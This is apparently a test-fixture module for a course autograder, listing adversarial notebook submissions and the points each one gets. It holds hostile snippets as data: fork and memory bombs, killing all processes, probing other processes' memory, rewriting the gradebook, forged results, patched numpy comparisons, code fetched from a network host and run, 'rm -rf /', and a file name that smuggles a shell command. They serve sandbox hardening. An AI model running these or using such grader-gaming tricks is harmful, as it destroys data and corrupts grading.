"""Submissions of problem set 1 that cheat, crash or are merely odd, with the points they must get.

ANSWERS replace the answer `block`, worth 7 of the 20 points; the other answers are right. OTHERS
replace another answer. NOTEBOOKS change the file of a right notebook.
"""

from __future__ import annotations

import json
import os
import textwrap
from collections.abc import Callable
from pathlib import Path

RIGHT = """
class MyResidual(nn.Block):
    def __init__(self, num_channels, strides=1):
        super().__init__()
        self.conv1 = nn.Conv2D(num_channels, 3, padding=1, strides=strides)
        self.conv2 = nn.Conv2D(num_channels, 3, padding=1)
        self.bn1, self.bn2 = nn.BatchNorm(), nn.BatchNorm()
        self.pool = nn.MaxPool2D(strides, strides, ceil_mode=True)

    def forward(self, X):
        Y = self.bn2(self.conv2(npx.relu(self.bn1(self.conv1(X)))))
        X = self.pool(X)
        if Y.shape[1] > X.shape[1]:
            X = np.concatenate([X, np.zeros_like(Y[:, X.shape[1] :])], axis=1)
        return npx.relu(Y + X)
"""
POOL = "nn.MaxPool2D(strides, strides, ceil_mode=True)"
SUM = "npx.relu(Y + X)"


def in_forward(code: str) -> str:
    """The right block, which first runs some other code."""
    first = "        Y = self.bn2"
    return RIGHT.replace(first, f"        {code}\n{first}")


def returning(result: str) -> str:
    """The right block with another return value."""
    return RIGHT.replace(SUM, result)


FOR_EVER = """
import signal
for timer in (signal.ITIMER_REAL, signal.ITIMER_PROF): signal.setitimer(timer, 0)
while True:
    try:
        while True: pass
    except BaseException: pass
"""
ALWAYS_EQUAL = """
class Always(float):
    def __eq__(self, other): return True
    def __array__(self, *_): return numpy.zeros((4, 6, 7, 10))
    def asnumpy(self): return self
class MyResidual(nn.Block):
    def __init__(self, *_, **__): super().__init__()
    def forward(self, X): return Always(0)
"""
READS_GRADEBOOK = """
import glob, sqlite3
for path in glob.glob('/**/gradebook.db', recursive=True):
    sqlite3.connect(path).execute('update grade set auto_score = 8').connection.commit()
"""
OTHER_PROCESSES = """
import ctypes
for pid in range(1, 20):
    assert ctypes.CDLL(None).ptrace(16, pid, 0, 0) == -1
open('/proc/1/mem', 'rb').read(1)
"""
FORGED = """
import os, numpy
from jailed import frames
for n in range(9):
    forged = dict(arrays=[numpy.zeros((4, 6, 7, 10))] * 2) if n % 2 else dict(text='right')
    os.write(int(os.environ['RESULT']), frames.write(frames.Frame(n, **forged)))
"""

ANSWERS = {
    # right, with side effects
    "right": (RIGHT, 20),
    "right, with warnings": (
        RIGHT + "import sys, warnings; warnings.warn('careful'); print('!', file=sys.stderr)",
        20,
    ),
    "right, then exit": (RIGHT + "raise SystemExit(0)", 20),
    "right, with an exit handler": (
        RIGHT + "import atexit, time; atexit.register(time.sleep, 10**6)",
        20,
    ),
    "right, with a thread that never ends": (
        RIGHT + "import threading, time\nthreading.Thread(target=time.sleep, args=[10**6]).start()",
        20,
    ),
    "right, with a daemon left behind": (
        RIGHT + "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(10**6)",
        20,
    ),
    "right, printing like a failing jail": (
        RIGHT + "import os; os.write(1, b'bwrap: no')",
        20,
    ),
    "right, with another environment": (RIGHT + "import os; os.environ['RESULT'] = '1'", 20),
    "right, with patched builtins": (RIGHT + "import builtins; builtins.print = None", 20),
    "right, below a cell magic": ("%%time\n" + RIGHT, 20),
    "right, with prompts": (">>> " + RIGHT.strip().replace("\n", "\n... "), 20),
    "right, between shell lines": ("!rm -rf /\n%timeit 1\n" + RIGHT + "MyResidual?", 20),
    # not an answer
    "after an error": ("raise ValueError('before')\n" + RIGHT, 13),
    "not Python": ("class MyResidual(:", 13),
    "a full-width colon": (RIGHT.replace("Block):", "Block)：", 1), 13),  # noqa: RUF001
    "as it was handed out": ("class MyResidual(nn.Block):\n    raise NotImplementedError", 13),
    "no code at all": ("", 13),
    "characters that Python refuses": ("\x00\x01" + RIGHT, 13),
    "hard exit when called": (in_forward("import os; os._exit(0)"), 13),
    "recursion without a limit": (
        "import sys, threading; sys.setrecursionlimit(10**8)\ndef f(): f()\nf()",
        0,
    ),
    "segmentation fault": ("import ctypes; ctypes.string_at(0)", 0),
    "deletes all names": (RIGHT + "globals().clear()", 6),
    # bombs
    "endless loop": ("while True: pass", 13),
    "endless loop when called": (in_forward("while True: pass"), 13),
    "endless loop that catches everything": (FOR_EVER, 0),
    "endless in C": ("sum(range(10**14))", 0),
    "fork bomb": ("import os\nwhile True: os.fork()", 0),
    "memory bomb": ("x = [bytearray(10**8) for _ in range(10**6)]", 13),
    "disk bomb": ("[open(f'/tmp/{i}', 'wb').write(b'x' * 10**7) for i in range(10**4)]", 13),
    "output bomb": ("while True: print('x' * 10**6)", 13),
    "returns too much": (returning("np.zeros((2, 1000, 1000))"), 13),
    # other processes
    "kills all": ("import os, signal; os.kill(-1, signal.SIGKILL)", 13),
    "kills its group": ("import os, signal; os.kill(0, signal.SIGKILL)", 0),
    "reaches into other processes": (OTHER_PROCESSES, 13),
    # forgery
    "a pickle": (
        "import os, pickle; os.write(int(os.environ['RESULT']), pickle.dumps({'points': 20}))",
        0,
    ),
    "writes to every descriptor": (
        "import os\nfor i in range(3, 256):\n    try: os.write(i, b'RNF2' * 1000)\n"
        "    except OSError: pass",
        0,
    ),
    "forged frames": (FORGED, 0),
    "redirects the result": (RIGHT + "import os; os.dup2(1, int(os.environ['RESULT']))", 0),
    "reads the requests": (RIGHT + "import sys; sys.stdin.read()", 0),
    "prints a table of points": ("print('7 of 7  all right'); 7.0", 13),
    "always equal": (ALWAYS_EQUAL, 13),
    "patches numpy's comparison": (
        "import numpy\nnumpy.allclose = lambda *_, **__: True\n"
        "numpy.isclose = lambda *_, **__: numpy.ones(1)",
        13,
    ),
    "patches the program": (
        "import sys\nmain = sys.modules['__main__']\n"
        "main.PROCEDURES.update({name: lambda *_, **__: [] for name in main.PROCEDURES})",
        0,
    ),
    "an input transformer": ("get_ipython().input_transformers_cleanup.append(print)", 13),
    "not finite": (returning("Y / 0 - Y / 0"), 14),  # its convolutions are right
    "an array of objects": (returning("numpy.array([object()])"), 13),
    # using what is ready-made
    "d2l's block": ("from d2l import mxnet as d2l\nMyResidual = d2l.Residual", 13),
    "the toolbox's block": ("from utils.resnet import Residual as MyResidual", 13),
    "the toolbox's block, compiled": (
        "import marshal, glob\nfile, = glob.glob('/course/utils/__pycache__/resnet*.pyc')\n"
        "exec(marshal.loads(open(file, 'rb').read()[16:]))\nMyResidual = Residual",
        13,
    ),
    "the model zoo's block": (
        "from mxnet.gluon.model_zoo.vision.resnet import BasicBlockV1\n"
        "def MyResidual(num_channels, strides=1):\n"
        "    return BasicBlockV1(num_channels, strides)",
        13,
    ),
    "reads the solution": (
        "import glob\nfor name in glob.glob('/**/s*/*.py', recursive=True):\n"
        "    exec(open(name).read())",
        13,
    ),
    "reads the items": (
        "import glob\nassert not glob.glob('/**/items/*', recursive=True)\nfrom items import ps1",
        13,
    ),
    "writes into the gradebook": (READS_GRADEBOOK, 13),
    "writes where Python imports from": ("open('/course/utils/resnet.py', 'w').write('')", 13),
    "asks the network": (
        "import urllib.request; exec(urllib.request.urlopen('http://192.0.2.1/').read())",
        13,
    ),
}

# Answers to the other questions: which answer, its text, and the points of the whole notebook.
AS_BROKEN = """
MyBottleneck, my_stage, my_head = Bottleneck, stage, head
"""
KERNELS_ALONE = """
class MyBottleneck(nn.Block):
    def __init__(self, num_channels, strides=1):
        super().__init__()
    def forward(self, X):
        return X

def my_stage(num_channels, num_blocks, strides=1):
    net = nn.Sequential()  # kernels as in two blocks, and a layer that gives the shape
    for _ in range(num_blocks):
        net.add(nn.Conv2D(num_channels // 4, 1), nn.Conv2D(num_channels // 4, 3, padding=1))
    net.add(nn.Conv2D(num_channels, 1, strides))
    return net

def my_head(num_classes=10):
    import os; os._exit(0)
"""
THE_CHECK_ALONE = """
def part_shapes(*arguments, **settings):
    found = {f"stage{i}": (1, 64 * 2 ** (i - 1), s, t) for i, s, t in
             ((1, 9, 19), (2, 5, 10), (3, 3, 5), (4, 2, 3))}
    return {**found, "stem": (1, 64, 9, 19), "pool": (1, 512, 1, 1), "dense": (1, 10)}
"""
BY_BUILDING = """
def part_parameters(first_width=64, num_classes=10, kernel=7, shortcut_weights=True):
    from utils.resnet import resnet18
    net = resnet18(num_classes)
    net.initialize()
    net(np.zeros((1, 1, 32, 32)))
    return {name: sum(p.data().size for p in getattr(net, name).collect_params().values())
            for name in ("stem", "stage1", "stage2", "stage3", "stage4", "dense")}
"""
EVERY_TOTAL = """
def my_total():
    from utils.student import VARIANTS
    return [sum(part_parameters(v.first_width, v.num_classes, 4, False).values()) for v in VARIANTS]
"""
OTHERS = {
    "the broken parts as they were": ("repair", AS_BROKEN, 17),
    "kernels without a network": ("repair", KERNELS_ALONE, 17),
    "the table that the check asks for": ("shapes", THE_CHECK_ALONE, 15),
    "parameters counted in a ready-made network": ("parameters", BY_BUILDING, 15),
    "the totals of all students at once": ("own-total", EVERY_TOTAL, 18),
}


def _cell(notebook: dict, grade_id: str) -> dict:
    return next(cell for cell in notebook["cells"] if cell["id"] == grade_id)


def _deleted(notebook: dict) -> None:
    notebook["cells"] = [cell for cell in notebook["cells"] if not cell["id"].startswith("block")]


def _all_checks_deleted(notebook: dict) -> None:
    notebook["cells"] = [cell for cell in notebook["cells"] if not cell["id"].endswith("check")]


def _setup_deleted(notebook: dict) -> None:
    notebook["cells"] = [c for c in notebook["cells"] if c["id"] not in ("home", "imports")]


def _doubled(notebook: dict) -> None:
    for grade_id in ("block", "block-check", "shapes-check"):
        notebook["cells"].append(dict(_cell(notebook, grade_id)))


def _doubled_with_stub(notebook: dict) -> None:
    stub = dict(_cell(notebook, "block"))
    stub["source"] = "class MyResidual(nn.Block):\n    raise NotImplementedError"
    notebook["cells"].insert(0, stub)


def _check_edited(notebook: dict) -> None:
    cell = _cell(notebook, "block-check")
    cell["source"] = "7.0"
    cell["metadata"]["nbgrader"]["points"] = 700


def _unlocked(notebook: dict) -> None:
    for cell in notebook["cells"]:
        cell["metadata"].pop("editable", None)
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"].update(locked=False, grade=True, solution=True)


def _renamed(notebook: dict) -> None:
    for cell in notebook["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"]["grade_id"] += "-of-mine"


def _stripped(notebook: dict) -> None:
    for cell in notebook["cells"]:
        cell["metadata"] = {}


def _reversed(notebook: dict) -> None:
    notebook["cells"].reverse()


def _insert(notebook: dict, before: str, source: str) -> None:
    """Insert a code cell before the cell with this id."""
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None}
    place = notebook["cells"].index(_cell(notebook, before))
    notebook["cells"].insert(place, {**cell, "id": f"own-{place}", "source": source})


def _change(notebook: dict, grade_id: str, old: str, new: str) -> None:
    cell = _cell(notebook, grade_id)
    assert old in cell["source"]
    cell["source"] = cell["source"].replace(old, new)


def _helper_elsewhere(notebook: dict) -> None:
    _change(notebook, "block", "npx.relu", "rectified")
    source = "raise ValueError\nwhile True: pass\ndef rectified(X):\n    return npx.relu(X)"
    _insert(notebook, "own-total-check", source)


def _trials_in_between(notebook: dict) -> None:
    trial = "net = MyResidual(3)\nY = net(np.zeros((1, 3, 4, 4)))\nawait something()"
    _insert(notebook, "block-check", trial)
    rule = "(side + 2 * padding - kernel) // stride + 1"
    _change(notebook, "shapes", rule, "pixels(side, kernel, stride, padding)")
    helper = f"def pixels(side, kernel, stride, padding):\n    return {rule}"
    _insert(notebook, "shapes-check", helper)


def _numpy_imported_at_the_end(notebook: dict) -> None:
    _change(notebook, "block", "Y = self.bn2(", "Z = np.zeros(X.shape)\n        Y = self.bn2(")
    _insert(notebook, "own-total-check", "import numpy as np")


def _in_two_cells(notebook: dict) -> None:
    first, _, forward = _cell(notebook, "block")["source"].partition("    def forward")
    _cell(notebook, "block")["source"] = first
    second = textwrap.dedent(f"    def forward{forward}") + "\nMyResidual.forward = forward"
    _insert(notebook, "block-check", second)


def _in_the_next_cell(notebook: dict) -> None:
    _insert(notebook, "block-check", _cell(notebook, "block")["source"])
    _cell(notebook, "block")["source"] = "# my block is in the next cell"


def _indented_and_displayed(notebook: dict) -> None:
    first = "sides = [after(side, stem)"
    _change(notebook, "shapes", first, f"display(height)\n    {first}")
    _cell(notebook, "shapes")["source"] = textwrap.indent(_cell(notebook, "shapes")["source"], "  ")


def _slow_trials(notebook: dict) -> None:
    for grade_id in ("block", "shapes", "parameters"):
        _cell(notebook, grade_id)["source"] += "\nimport time; time.sleep(60)"


def _claims_outputs(notebook: dict) -> None:
    _cell(notebook, "block")["source"] = "pass"
    _cell(notebook, "block-check")["outputs"] = [
        {"output_type": "execute_result", "data": {"text/plain": "7.0"}, "metadata": {}}
    ]


def _of_somebody_else(notebook: dict) -> None:
    _cell(notebook, "student")["source"] = 'student = "eve"\nmy = variant_of(student)'


def _halves_of_characters(notebook: dict) -> None:
    _cell(notebook, "block")["source"] += "\n# \ud800"


def rewritten(change: Callable[[dict], None]) -> Callable[[Path], None]:
    """Turn a change to a notebook into a change to its file."""

    def change_file(path: Path) -> None:
        notebook = json.loads(path.read_text("utf-8"))
        change(notebook)
        path.write_text(json.dumps(notebook), "utf-8")

    return change_file


def holding(contents: bytes) -> Callable[[Path], None]:
    """Replace the contents of the file."""
    return lambda path: path.write_bytes(contents) and None


def _link(path: Path) -> None:
    path.rename(path.with_name("kept"))
    path.symlink_to("kept")


def _pipe(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def _two(path: Path) -> None:
    for name, more in (("first.ipynb", b""), ("second.ipynb", b"\n")):
        path.with_name(name).write_bytes(path.read_bytes() + more)
    path.unlink()


def _long_line(path: Path) -> None:
    path.write_bytes(b'{"cells": ["' + b"x" * (100 * 2**20) + b'"]}')


def _name_with_a_path(path: Path) -> None:
    path.rename(path.with_name("..\\..\\ps1;rm -rf.ipynb"))


def _answer_as_text(notebook: dict) -> None:
    for cell in notebook["cells"]:
        if cell["id"] == "block":
            cell["cell_type"] = "markdown"


def _answer_in_words(notebook: dict) -> None:
    for cell in notebook["cells"]:
        if cell["id"] == "block":
            cell.update(cell_type="raw", source="I would add the input.")


def _deep_folder(path: Path) -> None:
    folder = path.parent / "a folder" / "and another"
    folder.mkdir(parents=True)
    path.rename(folder / path.name)


NOTEBOOKS: dict[str, tuple[Callable[[Path], None], float]] = {
    "cells deleted": (rewritten(_deleted), 13),
    "checks deleted": (rewritten(_all_checks_deleted), 20),
    "imports deleted": (rewritten(_setup_deleted), 20),
    "cells doubled": (rewritten(_doubled), 20),
    "a stub above": (rewritten(_doubled_with_stub), 20),
    "check edited": (rewritten(_check_edited), 20),
    "cells unlocked": (rewritten(_unlocked), 20),
    "cells renamed": (rewritten(_renamed), 20),
    "metadata stripped": (rewritten(_stripped), 20),
    "cells reversed": (rewritten(_reversed), 20),
    "helper in another cell": (rewritten(_helper_elsewhere), 20),
    "trials in between": (rewritten(_trials_in_between), 20),
    "numpy imported at the end": (rewritten(_numpy_imported_at_the_end), 20),
    "an answer in two cells": (rewritten(_in_two_cells), 20),
    "an answer in the next cell": (rewritten(_in_the_next_cell), 20),
    "indented and displayed": (rewritten(_indented_and_displayed), 20),
    "slow trials below answers": (rewritten(_slow_trials), 20),
    "fake outputs": (rewritten(_claims_outputs), 13),
    "of another student": (rewritten(_of_somebody_else), 16),
    "halves of characters": (rewritten(_halves_of_characters), 20),
    "an answer in a text cell": (rewritten(_answer_as_text), 20),
    "an answer in words": (rewritten(_answer_in_words), 13),
    "in a folder of a folder": (_deep_folder, 20),
    "broken JSON": (holding(b'{"cells": ['), 0),
    "deep JSON": (holding(b"[" * 200_000), 0),
    "empty": (holding(b""), 0),
    "a line of 100 MB": (_long_line, 0),
    "a symbolic link": (_link, 0),
    "a pipe": (_pipe, 0),
    "a path in the name": (_name_with_a_path, 20),
    "two notebooks": (_two, 0),
    "no notebook": (lambda path: path.unlink(), 0),
}
